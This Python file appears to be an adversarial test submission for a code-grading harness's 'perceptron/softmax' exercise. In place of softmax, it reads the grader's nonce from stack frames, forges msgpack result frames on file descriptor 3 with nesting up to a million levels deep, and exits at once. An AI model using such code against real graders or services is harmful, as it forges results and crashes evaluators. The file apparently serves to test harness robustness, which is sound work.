"""Sends heads nested a million deep, in lists, maps, tuples, and unknown types.

Exercise: perceptron/softmax
"""

import os, struct, sys
import msgspec
import torch

# attack
def nonce():
    frame = sys._getframe()
    while frame is not None:
        if isinstance(frame.f_locals.get("nonce"), bytes):
            return frame.f_locals["nonce"]
        frame = frame.f_back


def frame(head, body=b"", mark=None, sizes=None):
    head = head if isinstance(head, bytes) else msgspec.msgpack.encode(head)
    return struct.pack("<16sIQ", mark or nonce(), *(sizes or (len(head), len(body)))) + head + body


def send(data):
    view = memoryview(data)
    while view:
        view = view[os.write(3, view) :]


START = b"\x82\xa4type\xa8returned\xa5value"
HEADS = (
    START + b"\x91" * 1_000_000 + b"\xc0",
    START + b"\x81\xa1a" * 300_000 + b"\xc0",
    START + b"\x92\xa1l\x91" * 250_000 + b"\xc0",
    START + b"\xdd\xff\xff\xff\xff" + b"\xc0" * 900_000,
    START + b"\xc7\xff\x05" + bytes(255),
    START + b"\xd7\xff" + b"\xff" * 8,
    START + b"\x92\xa1l\xdd\x00\x0d\xbb\xa0" + b"\x90" * 900_000,
    START + b"\x92\xa1l\xdd\x00\x03\x0d\x40" + b"\x92\xa1t\x90" * 200_000,
)
# end


def softmax(X):
    # attack
    send(frame(HEADS[(X.numel() + int(X.requires_grad) + X.dim()) % len(HEADS)]))
    os._exit(0)
    # end
    return X * 0 + 0.123
